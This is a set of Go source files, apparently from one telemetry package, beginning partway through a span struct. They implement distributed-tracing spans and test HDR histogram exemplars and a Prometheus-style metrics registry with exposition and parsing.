	SpanID   string            `json:"span_id"`
	ParentID string            `json:"parent_id,omitempty"` // "" for the root
	Name     string            `json:"name"`
	Start    time.Time         `json:"start"`
	End      time.Time         `json:"end"`
	Attrs    map[string]string `json:"attrs,omitempty"`
}

// Duration is the span's wall time on its tracer's clock.
func (d SpanData) Duration() time.Duration { return d.End.Sub(d.Start) }

// Span is an in-flight span. All methods are nil-receiver safe.
type Span struct {
	t    *Tracer
	mu   sync.Mutex
	data SpanData
}

func (t *Tracer) newID() string {
	// Deterministic under a virtual clock: a tracer-local counter, not
	// wall time or randomness, so sim traces are bit-reproducible. The
	// instance prefix keeps IDs from different tracers disjoint.
	if t.instance != "" {
		return fmt.Sprintf("%s-%012x", t.instance, t.ids.Add(1))
	}
	return fmt.Sprintf("%012x", t.ids.Add(1))
}

// StartRoot opens a new trace and returns its root span.
func (t *Tracer) StartRoot(name string) *Span {
	if t == nil {
		return nil
	}
	id := t.newID()
	return &Span{t: t, data: SpanData{
		TraceID: id, SpanID: id, Name: name, Start: t.clk.Now(),
	}}
}

// StartSpan continues an existing trace — the worker-side entry point,
// with traceID and parentID arriving inside the job message.
func (t *Tracer) StartSpan(traceID, parentID, name string) *Span {
	if t == nil || traceID == "" {
		return nil
	}
	return &Span{t: t, data: SpanData{
		TraceID: traceID, SpanID: t.newID(), ParentID: parentID,
		Name: name, Start: t.clk.Now(),
	}}
}

// Child opens a sub-span of s.
func (s *Span) Child(name string) *Span {
	if s == nil {
		return nil
	}
	return s.t.StartSpan(s.data.TraceID, s.data.SpanID, name)
}

// SetAttr attaches a key/value to the span.
func (s *Span) SetAttr(key, value string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	if s.data.Attrs == nil {
		s.data.Attrs = map[string]string{}
	}
	s.data.Attrs[key] = value
	s.mu.Unlock()
}

// SetName renames the span (e.g. a generic "phase" span upgraded to
// "run" once the worker sees inference happened).
func (s *Span) SetName(name string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	s.data.Name = name
	s.mu.Unlock()
}

// TraceID reports the span's trace, "" on a nil span.
func (s *Span) TraceID() string {
	if s == nil {
		return ""
	}
	return s.data.TraceID
}

// SpanID reports the span's own ID, "" on a nil span.
func (s *Span) SpanID() string {
	if s == nil {
		return ""
	}
	return s.data.SpanID
}

// End stamps the span and commits it to the tracer's ring. Ending a
// span twice records it twice; don't.
func (s *Span) End() {
	if s == nil {
		return
	}
	s.mu.Lock()
	s.data.End = s.t.clk.Now()
	data := s.data
	if data.Attrs != nil {
		cp := make(map[string]string, len(data.Attrs))
		for k, v := range data.Attrs {
			cp[k] = v
		}
		data.Attrs = cp
	}
	s.mu.Unlock()
	s.t.commit(data)
}

func (t *Tracer) commit(d SpanData) {
	t.mu.Lock()
	if len(t.finished) < cap(t.finished) {
		t.finished = append(t.finished, d)
	} else {
		t.finished[t.next] = d
		t.next = (t.next + 1) % len(t.finished)
		t.full = true
	}
	t.mu.Unlock()
	if t.sink != nil {
		t.sink(d)
	}
}

// Trace returns the finished spans of one trace, ordered by start time
// (root first on ties with its children).
func (t *Tracer) Trace(traceID string) []SpanData {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	var out []SpanData
	for _, d := range t.finished {
		if d.TraceID == traceID {
			out = append(out, d)
		}
	}
	t.mu.Unlock()
	sort.SliceStable(out, func(i, j int) bool {
		if !out[i].Start.Equal(out[j].Start) {
			return out[i].Start.Before(out[j].Start)
		}
		return out[i].ParentID == "" && out[j].ParentID != ""
	})
	return out
}

// Connected reports whether every non-root span's parent is present in
// the slice and exactly one root exists — the invariant one submitted
// job must satisfy end to end.
func Connected(spans []SpanData) bool {
	if len(spans) == 0 {
		return false
	}
	ids := make(map[string]bool, len(spans))
	for _, d := range spans {
		ids[d.SpanID] = true
	}
	roots := 0
	for _, d := range spans {
		if d.ParentID == "" {
			roots++
			continue
		}
		if !ids[d.ParentID] {
			return false
		}
	}
	return roots == 1
}

// FormatTree renders spans as an indented tree with durations, for
// logs and the admin tooling.
func FormatTree(spans []SpanData) string {
	children := map[string][]SpanData{}
	byID := map[string]SpanData{}
	for _, d := range spans {
		byID[d.SpanID] = d
	}
	var roots []SpanData
	for _, d := range spans {
		if d.ParentID == "" || byID[d.ParentID].SpanID == "" {
			roots = append(roots, d)
			continue
		}
		children[d.ParentID] = append(children[d.ParentID], d)
	}
	var b strings.Builder
	var walk func(d SpanData, depth int)
	walk = func(d SpanData, depth int) {
		fmt.Fprintf(&b, "%s%s (%s)\n", strings.Repeat("  ", depth), d.Name, d.Duration())
		for _, c := range children[d.SpanID] {
			walk(c, depth+1)
		}
	}
	for _, r := range roots {
		walk(r, 0)
	}
	return b.String()
}
