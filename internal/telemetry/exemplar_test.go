package telemetry

import (
	"strings"
	"testing"
)

func TestHDRExemplarRecording(t *testing.T) {
	h := NewHDRHistogram()
	h.ObserveExemplar(0.010, "trace-slowish")
	h.ObserveExemplar(0.012, "trace-slower") // same bucket, latest wins
	h.ObserveExemplar(2.5, "trace-slowest")
	h.Observe(0.001) // no exemplar
	s := h.Snapshot()
	if len(s.Exemplars) != 2 {
		t.Fatalf("got %d exemplars, want 2 (one per populated bucket): %+v", len(s.Exemplars), s.Exemplars)
	}
	var ids []string
	for _, ex := range s.Exemplars {
		ids = append(ids, ex.TraceID)
		if ex.Value <= 0 {
			t.Errorf("exemplar %+v has no value", ex)
		}
	}
	joined := strings.Join(ids, ",")
	if !strings.Contains(joined, "trace-slower") || !strings.Contains(joined, "trace-slowest") {
		t.Errorf("exemplars %v missing expected traces", ids)
	}
	if strings.Contains(joined, "trace-slowish") {
		t.Error("older exemplar in the same bucket should have been replaced")
	}
}

func TestHDRExemplarExpositionRoundTrip(t *testing.T) {
	h := NewHDRHistogram()
	h.ObserveExemplar(0.040, "tr-abc")
	h.Observe(0.002)
	var b strings.Builder
	if err := h.Snapshot().WritePrometheus(&b, "rai_test_seconds", L("phase", "run")); err != nil {
		t.Fatal(err)
	}
	text := b.String()
	if !strings.Contains(text, `# {trace_id="tr-abc"} 0.04`) {
		t.Fatalf("exposition missing exemplar suffix:\n%s", text)
	}
	snap, err := ParseText(strings.NewReader("# TYPE rai_test_seconds histogram\n" + text))
	if err != nil {
		t.Fatalf("ParseText on exemplar exposition: %v", err)
	}
	found := ""
	var exVal float64
	total := uint64(0)
	for _, smp := range snap.Samples {
		if smp.Name == "rai_test_seconds_count" {
			total = uint64(smp.Value)
		}
		if smp.Exemplar != nil {
			found = smp.Exemplar.TraceID()
			exVal = smp.Exemplar.Value
		}
	}
	if total != 2 {
		t.Errorf("parsed count %d, want 2", total)
	}
	if found != "tr-abc" || exVal != 0.040 {
		t.Errorf("parsed exemplar (%q, %v), want (tr-abc, 0.04)", found, exVal)
	}
}

func TestHDRExemplarMergeKeepsMax(t *testing.T) {
	a := NewHDRHistogram()
	a.ObserveExemplar(0.020, "tr-a")
	b := NewHDRHistogram()
	b.ObserveExemplar(0.030, "tr-b") // same power-of-two bucket as 0.020
	b.ObserveExemplar(5, "tr-big")
	sa, sb := a.Snapshot(), b.Snapshot()
	if err := sa.Merge(sb); err != nil {
		t.Fatal(err)
	}
	byTrace := map[string]bool{}
	for _, ex := range sa.Exemplars {
		byTrace[ex.TraceID] = true
	}
	if !byTrace["tr-b"] || !byTrace["tr-big"] {
		t.Errorf("merge lost exemplars: %+v", sa.Exemplars)
	}
	if byTrace["tr-a"] {
		t.Error("merge kept the smaller same-bucket exemplar")
	}
}

func TestRegistryHDRFamilyExposition(t *testing.T) {
	reg := NewRegistry()
	h := reg.HDR("rai_job_duration_seconds", "per-job wall time", L("worker", "w1"))
	h.ObserveExemplar(0.1, "tr-1")
	reg.HDR("rai_job_duration_seconds", "per-job wall time", L("worker", "w2")).Observe(0.2)
	var b strings.Builder
	if err := reg.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	text := b.String()
	if !strings.Contains(text, "# TYPE rai_job_duration_seconds histogram") {
		t.Fatalf("HDR family missing TYPE line:\n%s", text)
	}
	if !strings.Contains(text, `trace_id="tr-1"`) {
		t.Fatalf("HDR family exposition missing exemplar:\n%s", text)
	}
	snap, err := ParseText(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if v, ok := snap.Value("rai_job_duration_seconds_count", L("worker", "w1")); !ok || v != 1 {
		t.Errorf("w1 count = %v (%v), want 1", v, ok)
	}
	if v, ok := snap.Value("rai_job_duration_seconds_count", L("worker", "w2")); !ok || v != 1 {
		t.Errorf("w2 count = %v (%v), want 1", v, ok)
	}
	// Same instrument back from a second registration.
	if reg.HDR("rai_job_duration_seconds", "", L("worker", "w1")) != h {
		t.Error("HDR re-registration returned a different instrument")
	}
}

func TestRegistryHDRNameClash(t *testing.T) {
	reg := NewRegistry()
	reg.Counter("rai_thing_total", "")
	func() {
		defer func() {
			if recover() == nil {
				t.Error("HDR registration over a counter name must panic")
			}
		}()
		reg.HDR("rai_thing_total", "")
	}()
	reg2 := NewRegistry()
	reg2.HDR("rai_lat_seconds", "")
	func() {
		defer func() {
			if recover() == nil {
				t.Error("counter registration over an HDR name must panic")
			}
		}()
		reg2.Counter("rai_lat_seconds", "")
	}()
}
