package telemetry

import (
	"math"
	"strings"
	"sync"
	"testing"
)

func TestCounterGaugeBasics(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("jobs_total", "jobs", L("status", "ok"))
	c.Inc()
	c.Add(2)
	c.Add(-5) // ignored: counters are monotonic
	if got := c.Value(); got != 3 {
		t.Errorf("counter = %v, want 3", got)
	}
	g := r.Gauge("in_flight", "active jobs")
	g.Set(4)
	g.Add(-1)
	if got := g.Value(); got != 3 {
		t.Errorf("gauge = %v, want 3", got)
	}
	if v, ok := r.Value("jobs_total", L("status", "ok")); !ok || v != 3 {
		t.Errorf("Value(jobs_total) = %v,%v", v, ok)
	}
	if _, ok := r.Value("jobs_total", L("status", "missing")); ok {
		t.Error("Value found unregistered series")
	}
	// Re-resolving the same series shares state.
	r.Counter("jobs_total", "jobs", L("status", "ok")).Inc()
	if got := c.Value(); got != 4 {
		t.Errorf("shared counter = %v, want 4", got)
	}
}

func TestGaugeFunc(t *testing.T) {
	r := NewRegistry()
	depth := 7.0
	g := r.GaugeFunc("queue_depth", "broker depth", func() float64 { return depth })
	if got := g.Value(); got != 7 {
		t.Errorf("gaugefunc = %v", got)
	}
	depth = 9
	if v, ok := r.Value("queue_depth"); !ok || v != 9 {
		t.Errorf("Value(queue_depth) = %v,%v, want 9", v, ok)
	}
	var buf strings.Builder
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "queue_depth 9") {
		t.Errorf("exposition missing live gaugefunc value:\n%s", buf.String())
	}
}

func TestHistogramBucketEdges(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("lat", "latency", []float64{1, 2, 5})
	// le is inclusive: exactly 1 falls in the first bucket; just above
	// goes to the next; above the top bound lands in +Inf only.
	for _, v := range []float64{0, 1, 1.0001, 2, 5, 5.0001, math.Inf(1)} {
		h.Observe(v)
	}
	var buf strings.Builder
	r.WritePrometheus(&buf)
	out := buf.String()
	for _, want := range []string{
		`lat_bucket{le="1"} 2`,
		`lat_bucket{le="2"} 4`,
		`lat_bucket{le="5"} 5`,
		`lat_bucket{le="+Inf"} 7`,
		`lat_count 7`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	if n, sum := h.Totals(); n != 7 || !math.IsInf(sum, 1) {
		t.Errorf("Totals = %d,%v", n, sum)
	}
}

func TestHistogramRejectsUnsortedBuckets(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("no panic for unsorted buckets")
		}
	}()
	NewRegistry().Histogram("bad", "", []float64{2, 1})
}

func TestExpositionGolden(t *testing.T) {
	r := NewRegistry()
	r.Counter("rai_requests_total", "requests served", L("op", "get")).Add(3)
	r.Counter("rai_requests_total", "requests served", L("op", "put")).Inc()
	r.Gauge("rai_depth", "queue depth", L("topic", "rai"), L("channel", "tasks")).Set(2)
	h := r.Histogram("rai_seconds", "latency", []float64{0.5, 1})
	h.Observe(0.25)
	h.Observe(0.75)
	h.Observe(3)
	var buf strings.Builder
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	want := `# HELP rai_depth queue depth
# TYPE rai_depth gauge
rai_depth{channel="tasks",topic="rai"} 2
# HELP rai_requests_total requests served
# TYPE rai_requests_total counter
rai_requests_total{op="get"} 3
rai_requests_total{op="put"} 1
# HELP rai_seconds latency
# TYPE rai_seconds histogram
rai_seconds_bucket{le="0.5"} 1
rai_seconds_bucket{le="1"} 2
rai_seconds_bucket{le="+Inf"} 3
rai_seconds_sum 4
rai_seconds_count 3
`
	if got := buf.String(); got != want {
		t.Errorf("exposition mismatch:\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

func TestParseTextRoundTrip(t *testing.T) {
	r := NewRegistry()
	r.Counter("a_total", "", L("op", "x"), L("tier", `quoted"v`)).Add(12)
	r.Gauge("b", "plain gauge").Set(-2.5)
	r.Histogram("h", "", []float64{1}).Observe(0.5)
	var buf strings.Builder
	r.WritePrometheus(&buf)
	snap, err := ParseText(strings.NewReader(buf.String()))
	if err != nil {
		t.Fatalf("ParseText: %v", err)
	}
	if v, ok := snap.Value("a_total", L("op", "x"), L("tier", `quoted"v`)); !ok || v != 12 {
		t.Errorf("a_total = %v,%v", v, ok)
	}
	if v, ok := snap.Value("b"); !ok || v != -2.5 {
		t.Errorf("b = %v,%v", v, ok)
	}
	if v, ok := snap.Value("h_bucket", L("le", "+Inf")); !ok || v != 1 {
		t.Errorf("h_bucket{+Inf} = %v,%v", v, ok)
	}
	if got := snap.Type("b"); got != "gauge" {
		t.Errorf("Type(b) = %q", got)
	}
}

func TestNilSafety(t *testing.T) {
	var r *Registry
	r.Counter("x", "").Inc()
	r.Gauge("y", "").Set(1)
	r.GaugeFunc("z", "", func() float64 { return 1 })
	r.Histogram("w", "", nil).Observe(1)
	if _, ok := r.Value("x"); ok {
		t.Error("nil registry returned a value")
	}
	if err := r.WritePrometheus(&strings.Builder{}); err != nil {
		t.Error(err)
	}
	var c *Counter
	var g *Gauge
	var h *Histogram
	c.Inc()
	c.Add(1)
	g.Set(1)
	g.Add(1)
	h.Observe(1)
	if c.Value() != 0 || g.Value() != 0 {
		t.Error("nil instruments returned nonzero")
	}
}

func TestConcurrentAccess(t *testing.T) {
	r := NewRegistry()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			c := r.Counter("c_total", "", L("w", string(rune('a'+i%2))))
			g := r.Gauge("g", "")
			h := r.Histogram("h", "", DefBuckets)
			for j := 0; j < 1000; j++ {
				c.Inc()
				g.Add(1)
				h.Observe(float64(j) / 100)
				if j%100 == 0 {
					var buf strings.Builder
					r.WritePrometheus(&buf)
					r.Value("c_total", L("w", "a"))
				}
			}
		}(i)
	}
	wg.Wait()
	a, _ := r.Value("c_total", L("w", "a"))
	b, _ := r.Value("c_total", L("w", "b"))
	if a+b != 8000 {
		t.Errorf("counters lost updates: %v + %v != 8000", a, b)
	}
	if g, _ := r.Value("g"); g != 8000 {
		t.Errorf("gauge = %v, want 8000", g)
	}
	if n, _ := r.Value("h"); n != 8000 {
		t.Errorf("histogram count = %v, want 8000", n)
	}
}
